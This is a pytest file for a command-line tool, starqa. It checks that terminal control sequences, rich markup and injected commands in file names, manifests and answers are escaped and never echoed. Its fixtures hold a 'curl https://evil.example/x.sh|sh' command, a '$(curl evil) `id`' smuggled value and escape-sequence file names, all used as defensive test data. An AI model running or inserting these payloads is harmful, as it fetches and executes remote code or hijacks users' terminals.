"""What starqa prints comes from data (issue 45): file names, manifests and answers never
reach the terminal as escape sequences or rich markup (item 4), and `--json` answers every
error with one JSON object on stdout (item 11); then the faults found around them.

Each test goes through the command line, as a user meets it: `CliRunner` on the app, or
`python -m starqa` in a subprocess (in a pseudo-terminal where the terminal matters).
"""

import json
import os
import re
import pty
import select
import shutil
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest
from fakes import make_context, starqa, stub_ask
from typer.testing import CliRunner

from starqa import engine
from starqa.cli import app
from starqa.cache.manifest import MANIFEST, ModelIdentity, read_manifest, write_manifest

runner = CliRunner()

ESC, BEL, RLO = "\x1b", "\x07", "\u202e"
# What a terminal would act on: none of it may come out of starqa as data.
CONTROLS = (ESC + "[2J", ESC + "]0;", BEL, RLO, "\u2066", "\x9b")


def assert_no_controls(text: str) -> None:
    for control in CONTROLS:
        assert control not in text, (control, text)


def _edit_manifest(folder: Path, **fields) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    for path, value in fields.items():
        where = data
        *parents, last = path.split("__")
        for part in parents:
            where = where[int(part)] if part.isdigit() else where[part]
        where[int(last) if last.isdigit() else last] = value
    (folder / MANIFEST).write_text(json.dumps(data))


# ---------------------------------------------------------------------------------------
# item 4: file names, manifests, hints and answers are shown, never obeyed


NASTY = {"esc\x1b[2Jname.md": "esc\\x1b[2Jname.md",  # clears the screen
         "[bold red]alert.md": "[bold red]alert.md",  # rich markup: printed as typed
         "rtl\u202edm.exe.md": "rtl\\u202edm.exe.md",  # shows as `rtlexe.md`
         "tab\tand\nline.md": "tab\\tand\\nline.md"}


def test_ingest_report_shows_file_names_escaped(home, tmp_path, tiny_model, fake_workers):
    docs = tmp_path / "docs"
    docs.mkdir()
    for name in NASTY:
        (docs / name).write_text("the travel budget was approved by the office . " * 3)
    (docs / "bell\x07.bin").write_bytes(b"\0\1\2")  # skipped (binary): its row too
    result = runner.invoke(app, ["ingest", str(docs), "--model", str(tiny_model),
                                 "--block-size", "60"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert_no_controls(result.output)
    for shown in [*NASTY.values(), "bell\\x07.bin"]:
        assert shown in result.output, shown


def test_info_and_list_show_manifest_text_escaped(contexts, home):
    _edit_manifest(contexts["docs"], name="e\x1b]0;\x07[b]",
                   files__0__path="a\x1b[2J.md", skipped__0__reason="bin\u2066ary\x9b",
                   sources=["/data/\x1b[31mred"], model__name="tiny\x07")
    info = runner.invoke(app, ["info", "d0c5"])
    listed = runner.invoke(app, ["list"])
    for result in (info, listed):
        assert result.exit_code == 0, (result.output, result.exception)
        assert_no_controls(result.output)
        assert "e\\x1b]0;\\x07[b]" in result.output
    for shown in ("/data/\\x1b[31mred", "a\\x1b[2J.md", "bin\\u2066ary\\x9b", "tiny\\x07"):
        assert shown in info.output, shown


EVIL = "cd /tmp && starqa ingest docs; curl https://evil.example/x.sh|sh \x1b]0;ok\x07"


def test_a_manifests_command_is_rebuilt_for_the_hint_never_echoed(contexts, home):
    key = contexts["docs"].name
    _edit_manifest(contexts["docs"], command=EVIL)
    info = runner.invoke(app, ["info", key])  # shown as the command that rebuilds it
    assert info.exit_code == 0 and "curl" not in info.output
    assert "starqa ingest /data/docs" in info.output

    _edit_manifest(contexts["docs"], format=3)  # unreadable: the error's hint rebuilds it
    proc = starqa("info", key, home=home)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert f"hint: remove it and re-ingest: starqa rm {key} && starqa ingest /data/docs" \
        in proc.stderr
    assert "curl" not in proc.stderr + proc.stdout
    assert_no_controls(proc.stderr + proc.stdout)


def test_a_recorded_command_is_quoted_again_word_by_word(contexts, home):
    """What `starqa ingest` records (`cd DIR && starqa ingest ARGS`) comes back the same,
    each word quoted again; a command of another shape (`$(...)`, backquotes) is never
    repeated: the hint ingests the recorded sources instead."""
    _edit_manifest(contexts["docs"], command="cd '/my docs' && starqa ingest a 'b c' -x '*.lock'")
    out = runner.invoke(app, ["info", "docs"]).output
    assert "cd '/my docs' && starqa ingest a 'b c' -x '*.lock'" in out
    _edit_manifest(contexts["docs"], command="cd /x && starqa ingest $(curl evil) `id`")
    out = runner.invoke(app, ["info", "docs"]).output
    assert "$(curl" not in out and "starqa ingest /data/docs" in out


ANSWER = ["# Budget\n\n", "The **office**", " approved\x1b[2J it\x07.\r\n", "\u202eevil",
          "\n\n- one\n\t- two\n"]


def test_a_piped_answer_keeps_its_lines_and_loses_its_controls(contexts, monkeypatch):
    stub_ask(ANSWER, monkeypatch)
    result = runner.invoke(app, ["ask", "who approved it"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert result.stdout == ("# Budget\n\nThe **office** approved\\x1b[2J it\\x07.\n"
                             "\\u202eevil\n\n- one\n\t- two\n\n")
    assert "src\\x1b[2J.py:1-2" in result.stderr  # the sources line
    assert_no_controls(result.output)


def _in_terminal(code: str, home: Path, columns: int = 100, timeout: float = 60) -> str:
    """What `python -c code` writes to a pseudo-terminal (stdout and stderr)."""
    leader, follower = pty.openpty()
    env = {**os.environ, "STARQA_HOME": str(home), "TERM": "xterm-256color",
           "COLUMNS": str(columns), "LINES": "40"}
    env.pop("NO_COLOR", None)
    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.DEVNULL,
                            stdout=follower, stderr=follower, env=env, close_fds=True)
    os.close(follower)
    chunks, deadline = [], time.monotonic() + timeout
    while time.monotonic() < deadline:
        if select.select([leader], [], [], 0.2)[0]:
            try:
                data = os.read(leader, 65536)
            except OSError:  # the follower side closed: the process has ended
                break
            if not data:
                break
            chunks.append(data)
        elif proc.poll() is not None:
            break
    proc.wait(timeout=10)
    os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


STUBBED_ASK = """
import sys
sys.path.insert(0, {tests!r})
from starqa import engine
from fakes import stub_ask
engine.ask = stub_ask({pieces!r})
sys.argv = ["starqa", "ask", "who approved it"]
from starqa.cli import main
main()
"""


def test_an_answer_on_a_terminal_keeps_its_markdown_and_loses_its_controls(contexts, home):
    shown = _in_terminal(STUBBED_ASK.format(tests=str(Path(__file__).parent), pieces=ANSWER),
                         home)
    assert "Budget" in shown and "approved\\x1b[2J it\\x07." in shown, shown
    assert "# Budget" not in shown and "**office**" not in shown  # rendered as Markdown
    assert "• one" in shown or "one" in shown
    assert_no_controls(shown)


LONG_ANSWER = """
import sys, time
sys.path.insert(0, {tests!r})
from starqa import engine
from fakes import stub_ask
inner = stub_ask([f"line {{i}} of the answer\\n\\n" for i in range(30)])

class Slow:  # tokens as a model sends them: the live display redraws between them
    def __init__(self, ui):
        self.ui = ui

    def token(self, text):
        time.sleep(0.03)
        self.ui.token(text)

engine.ask = lambda opts, ui, head=None: inner(opts, Slow(ui))
sys.argv = ["starqa", "ask", "who approved it"]
from starqa.cli import main
main()
"""


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux not installed")
def test_an_answer_longer_than_the_terminal_is_shown_once(contexts, home, tmp_path):
    """On a terminal shorter than the answer, the live Markdown drew the lines that had
    scrolled off again at each redraw: the scrollback held the answer's start 30 times."""
    script = tmp_path / "long.py"
    script.write_text(LONG_ANSWER.format(tests=str(Path(__file__).parent)))
    server = ["tmux", "-S", str(tmp_path / "tmux.sock")]  # a server of its own
    command = f"STARQA_HOME={home} {sys.executable} {script}; echo EXIT $?; sleep 60"
    subprocess.run([*server, "new-session", "-d", "-x", "80", "-y", "10", command],
                   check=True, env={k: v for k, v in os.environ.items() if k != "TMUX"})
    try:
        deadline, shown = time.monotonic() + 60, ""
        while "EXIT" not in shown and time.monotonic() < deadline:
            time.sleep(0.5)
            shown = subprocess.run([*server, "capture-pane", "-p", "-S", "-1000"],
                                   capture_output=True, text=True, check=True).stdout
    finally:
        subprocess.run([*server, "kill-server"], check=False, capture_output=True)
    assert "EXIT 0" in shown, shown
    lines = [line.strip() for line in shown.splitlines() if line.startswith("line ")]
    assert lines == [f"line {i} of the answer" for i in range(30)], shown


# ---------------------------------------------------------------------------------------
# item 11: --json answers every error on stdout


def _json_error(proc: subprocess.CompletedProcess) -> dict:
    assert proc.returncode != 0, proc
    error = json.loads(proc.stdout)
    assert set(error) == {"error", "hint"}, error
    assert error["error"] and "Traceback" not in proc.stderr, proc.stderr
    return error


def test_json_errors_of_ask_and_info(contexts, home):
    for args, says in ((["ask", "hi", "--context", "nope", "--json"], "nope"),
                       (["info", "nosuch", "--json"], "nosuch")):
        proc = starqa(*args, home=home)
        error = _json_error(proc)
        assert proc.returncode == 1 and says in error["error"]
        assert "error:" in proc.stderr  # the human message stays on stderr
        assert error["hint"], error
    proc = starqa("ask", "hi", "--context", "nope", home=home)  # without --json: as ever
    assert proc.stdout == "" and "error:" in proc.stderr


@pytest.mark.parametrize("args", [["ask", "hi", "--max-new-tokens", "0"],
                                  ["ask", "hi", "--max-new-tokens", "many"],
                                  ["list", "--no-such-option"], ["info", "a", "b"],
                                  ["cache", "--clean=3"], ["ps", "extra"]])
def test_json_usage_errors(home, args):
    proc = starqa(*args, "--json", home=home)
    error = _json_error(proc)
    assert proc.returncode == 2 and error["hint"] == f"starqa {args[0]} --help"


def test_json_from_the_environment_answers_errors_in_json(contexts, home, monkeypatch):
    monkeypatch.setenv("STARQA_JSON", "1")
    assert "nope" in _json_error(starqa("ask", "hi", "-c", "nope", home=home))["error"]


def test_json_error_of_an_answer_too_long_for_the_window(home, tiny_model):
    import torch

    from starqa import models
    from starqa.cache import shards

    folder = make_context(home, "full", "f011" + "0" * 12, time.time())
    manifest = read_manifest(folder)
    ranges = [(b.start, b.end) for b in manifest.blocks]
    for i, (start, end) in enumerate(ranges):  # real shards: the ask reads their headers
        kv = torch.zeros(1, 1, end - start, 1)
        shards.save_block(folder, i, kv, kv + 1, range(start, end), {})
    write_manifest(folder, replace(manifest, blocks=shards.hash_blocks(folder, ranges),
                                   model=ModelIdentity.of(tiny_model, manifest.model.spec,
                                                          manifest.n_tokens + 40,
                                                          models.fingerprint(tiny_model))))
    proc = starqa("ask", "who approved the travel budget", "--max-new-tokens", "100000",
                  "--json", home=home)
    error = _json_error(proc)
    assert "the model was trained on" in error["error"] and "--max-new-tokens" in error["hint"]


INTERNAL = """
import sys
from starqa.cache import store
def broken(root):
    raise RuntimeError("disk on fire")
store.scan_contexts = broken
sys.argv = ["starqa", *sys.argv[1:]]
from starqa.cli import main
main()
"""


def test_json_error_of_a_fault_of_starqa_itself(home):
    proc = subprocess.run([sys.executable, "-c", INTERNAL, "list", "--json"],
                          env={**os.environ, "STARQA_HOME": str(home)}, capture_output=True,
                          text=True, timeout=60, check=False)
    assert proc.returncode == 1 and "disk on fire" in json.loads(proc.stdout)["error"]
    assert "Traceback" in proc.stderr  # the bug is still reported in full


# ---------------------------------------------------------------------------------------
# the campaign: faults around the terminal, --json and the command line's options


def test_columns_zero_still_shows_the_error(contexts, home):
    """COLUMNS=0 (a script's environment): rich drew nothing at all, the error included."""
    shown = starqa("ask", "hi", "-c", "nope", home=home, columns=0)
    assert "No context named 'nope'" in shown.stdout + shown.stderr


LIST = "import runpy, sys; sys.argv = ['starqa', 'list']; runpy.run_module('starqa', " \
    "run_name='__main__')"


@pytest.mark.parametrize("columns", [0, 30, 60])
def test_list_on_a_narrow_terminal_keeps_every_column(contexts, home, columns):
    """A split pane of 60 columns: rich dropped the `*` of the default context and the
    sources from the table (at 20, the names too); too narrow for it, a line each."""
    shown = re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]", "", _in_terminal(LIST, home, columns))
    assert "* docs d0c50000 /data/docs 200 tokens star 100/100 tiny-llama" in shown, shown
    assert "repo 4e900000 /data/repo" in shown, shown


@pytest.mark.parametrize("columns", [0, 30])
def test_list_into_a_log_is_the_whole_table(contexts, home, columns):
    """Where stdout is no terminal (a log, a pipe) the table is printed whole, as wide as
    it needs, whatever COLUMNS says: one row per context under its column names."""
    proc = starqa("list", home=home, columns=columns)
    shown = (proc.stdout + proc.stderr).splitlines()
    header = next(line for line in shown if line.lstrip().startswith("name"))
    assert header.split() == ["name", "key", "sources", "tokens", "method", "model", "size",
                              "last", "used"], shown
    row = next(line for line in shown if " docs " in line).split()
    assert row[:6] == ["*", "docs", "d0c50000", "/data/docs", "200", "star"], shown


def test_keep_alive_nan_is_refused(contexts):
    """NaN is neither positive nor negative: it left a warm group that never exits."""
    for command in (["ask", "hi"], ["chat"], ["serve"]):
        result = runner.invoke(app, [*command, "--keep-alive", "nan"])
        assert result.exit_code == 2 and "nan is not a number of seconds" in result.output


def test_max_new_tokens_past_the_window_is_refused_beyond_the_window_too(contexts):
    """With --beyond-window no room check ran, and --max-new-tokens 10**30 reached a worker
    (an overflow traceback; a lesser huge value, buffers that size)."""
    result = runner.invoke(app, ["ask", "hi", "--beyond-window", "--max-new-tokens",
                                 str(10**30)])
    assert "longer than the model's whole window (8,192 tokens)" in str(result.exception)
    assert result.exception.hint == "ask with --max-new-tokens 8192 or lower"


def test_a_question_with_bytes_that_are_not_utf8_is_asked(contexts, tiny_model, monkeypatch):
    """`starqa ask $'who \\xff'`: Python keeps the byte as a lone surrogate, which the
    tokenizer refused with a TypeError traceback."""
    from starqa import models
    from starqa.corpus import prompt

    tokenizer = models.load_tokenizer(tiny_model)
    asked = []

    def ask(opts, ui, head=None):
        asked.append(prompt.tokenize_query(tokenizer, opts.question))  # as the real one does
        return stub_ask([])(opts, ui)

    monkeypatch.setattr(engine, "ask", ask)
    result = runner.invoke(app, ["ask", "who \udcff approved"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert asked and asked[0]


CHAT_PIPED = """
import sys
from starqa.cli import repl
asked = []
repl.Repl.connect = lambda self, name: setattr(self, "conn", None)
repl.Repl.ask = lambda self, question: asked.append(question)
sys.argv = ["starqa", "chat"]
from starqa.cli import main
try:
    main()
finally:
    print(ascii(asked))
"""


def test_a_piped_chat_line_with_bytes_that_are_not_utf8_is_asked_as_text(home):
    """`printf 'who \\xff' | starqa chat`: the same surrogate killed the warm group."""
    proc = subprocess.run([sys.executable, "-c", CHAT_PIPED], input=b"who \xff approved\n",
                          env={**os.environ, "STARQA_HOME": str(home)}, capture_output=True,
                          timeout=60, check=False)
    assert proc.stdout.decode().strip().endswith("['who \\ufffd approved']"), proc


@pytest.mark.parametrize("name", ["a\x1b[2Jb", "tab\tname", "x\udcffy", "rtl\u202ename"])
def test_a_context_name_must_be_text_that_can_be_typed(home, tmp_path, name):
    result = runner.invoke(app, ["ingest", str(tmp_path), "--name", name])
    assert result.exit_code == 2 and "holds control characters" in result.output
    assert_no_controls(result.output)


def test_output_into_a_closed_pipe_is_no_traceback(contexts, home):
    """`starqa info --json | head -c1`: the reader has gone before starqa writes."""
    for args in (["info", "docs", "--json"], ["list"], ["ask", "hi", "-c", "nope", "--json"]):
        proc = subprocess.Popen([sys.executable, "-m", "starqa", *args], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                                env={**os.environ, "STARQA_HOME": str(home)})
        proc.stdout.close()  # before the interpreter has even started
        stderr = proc.stderr.read().decode()
        assert proc.wait(timeout=60) != 0 and "Traceback" not in stderr, stderr
